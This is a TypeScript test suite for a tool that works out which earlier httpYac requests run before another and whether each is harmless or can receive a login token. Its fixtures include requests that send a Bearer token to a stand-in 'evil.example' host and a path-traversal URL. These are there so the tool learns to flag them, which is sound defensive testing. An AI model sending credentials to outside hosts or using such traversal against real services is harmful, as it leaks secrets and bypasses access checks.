import assert from 'node:assert/strict';
import { linesOf } from '../../../../src/core/common/lines';
import {
  earlierRequests,
  getsNoToken,
  isHarmless,
} from '../../../../src/core/requestAnalysis/earlierRequests';
import { requestTargets } from '../../../../src/core/requestAnalysis/matchProfiles';
import type { HttpDialect } from '../../../../src/core/requests/blocks';
import { requestAt } from '../../../../src/core/requests/findRequests';
import { profileWith } from '../../../support/fakes';

/** The requests that httpYac sends before the last one of a text. */
function before(text: string, dialect: HttpDialect = 'http'): readonly string[] {
  const lines = linesOf(text);
  const line = text.slice(0, text.lastIndexOf('GET /last')).split('\n').length - 1;
  const request = requestAt(lines, line, dialect);
  assert.ok('requestLine' in request);
  return earlierRequests(lines, dialect, request).map(({ name, request: earlier }) =>
    earlier ? `${name}: ${earlier.method} ${earlier.url}` : name,
  );
}

describe('the requests that httpYac sends before another one', () => {
  const remove = '# @name del\nDELETE /a\n\n###\n';

  for (const reference of ['# @ref del', '# @forceRef del', '// @force-ref "del"', '#   @REF   del  ']) {
    it(`are those that it refers to: ${reference}`, () => {
      assert.deepEqual(before(`${remove}${reference}\nGET /last\n`), ['del: DELETE /a']);
    });
  }

  it('may have their names from separators', () => {
    assert.deepEqual(before('### del\nDELETE /a\n\n###\n# @ref del\nGET /last\n'), ['del: DELETE /a']);
  });

  it('refer to others themselves, and are told once', () => {
    const text =
      '# @name a\n# @ref b\nPUT /a\n\n###\n# @name b\n# @ref a\nPOST /b\n\n###\n# @ref a\n# @ref b\nGET /last\n';
    assert.deepEqual([...before(text)].sort(), ['a: PUT /a', 'b: POST /b']);
  });

  it('are all that have the name', () => {
    assert.deepEqual(before('# @name a\nPUT /a\n\n###\n# @name a\nPOST /b\n\n###\n# @ref a\nGET /last\n'), [
      'a: PUT /a',
      'a: POST /b',
    ]);
  });

  it('may be known to httpYac alone', () => {
    assert.deepEqual(before('# @ref {{x}}\n# @ref other\nGET /last\n'), ['other', '{{x}}']);
    assert.deepEqual(before('# @name {{x}}\nGET /a\n\n###\n# @ref {{x}}\nGET /last\n'), ['{{x}}']);
  });

  it('are also those of blocks without a request, wherever they are', () => {
    for (const text of [
      `# @ref del\n\n###\n${remove}GET /last\n`,
      `@a = b\n# @forceRef del\n\n###\n${remove}GET /last\n`,
      `${remove}GET /last\n\n###\n# @ref del\n`,
      `###\n# @ref del\n###\n${remove}GET /last\n`,
    ]) {
      assert.deepEqual(before(text), ['del: DELETE /a'], text);
    }
    const block = (text: string) => `\`\`\`http\n${text}\`\`\`\n`;
    const fences = `${block('# @ref del\n')}${block('# @name del\nDELETE /a\n')}${block('GET /last\n')}`;
    assert.deepEqual(before(fences, 'markdown'), ['del: DELETE /a']);
  });

  it('are none without a reference in the request itself', () => {
    assert.deepEqual(before(`${remove}# @ref del\nGET /b\n\n###\nGET /last\n`), []);
  });

  it('may be in other blocks of Markdown', () => {
    const block = (text: string) => `\`\`\`http\n${text}\`\`\`\n`;
    const text = `${block('# @name del\nDELETE /a\n')}\n${block('# @ref del\nGET /last\n')}`;
    assert.deepEqual(before(text, 'markdown'), ['del: DELETE /a']);
  });
});

describe('an earlier request', () => {
  const customerId = 'aaaaaaaa-0000-0000-0000-000000000001';
  const origin = 'https://good.example';
  const profile = profileWith({ origin, customerId });
  const service = `${origin}/${customerId}`;
  const header = 'Authorization: Bearer {{$processEnv HOSTED_LOGIN_TOKEN}}';
  const rows: readonly (readonly [text: string, isHarmless: boolean, getsNoToken: boolean])[] = [
    [`GET ${service}/config/clients\n${header}`, true, false],
    [`HEAD ${service}/config/clients`, true, true],
    [`DELETE ${service}/config/clients/1\n${header}`, false, false],
    // httpYac may add a header to it (`defaultHeaders`).
    [`DELETE ${service}/config/clients/1`, false, false],
    [`POST ${service}/login/token\nAuthorization: Basic {{x}}`, true, true],
    [`POST ${service}/login/../config/clients\n${header}`, false, false],
    [`POST {{host}}/${customerId}/login/token\nAuthorization: Basic {{x}}`, false, false],
    [`POST {{x}}/a/login\n${header}`, false, false],
    [`DELETE ${origin}/99999999-0000-0000-0000-000000000001/{{x}}/clients/1\n${header}`, false, false],
    [`DELETE http://{{x}}.evil.example/\n${header}`, false, false],
    [`POST ${origin}/{{y}}/login/z\n${header}`, false, false],
    [`POST ${service}/login/{{z}}\n${header}`, false, false],
    // Only httpYac without our hook gives it a token.
    [`GET https://evil.example/a\n${header}`, false, true],
    [`DELETE https://evil.example/a\n${header}`, false, true],
    [`{{\nrequest.url = 'x';\n}}\nGET https://evil.example/a\n${header}`, false, false],
    ['GET {{host}}/health', false, true],
    ['GET {{host}}/health\nX-A: {{x}}', false, false],
    ['POST {{host}}/health', false, false],
    ['curl {{host}}/health', false, false],
  ];
  for (const [text, harmless, noToken] of rows) {
    it(`${harmless ? 'needs no question' : 'needs a question'}, ${noToken ? 'gets no token' : 'may get a token'}: ${text}`, () => {
      const lines = linesOf(text);
      const request = requestAt(lines, text.split('\n').length - 1, 'http');
      assert.ok('requestLine' in request);
      const target = requestTargets(lines, 'http', { client: 'httpYac', asksForToken: true })(request);
      assert.equal(isHarmless({ request, target }, profile), harmless);
      assert.equal(getsNoToken({ request, target }, [profile]), noToken);
    });
  }
});
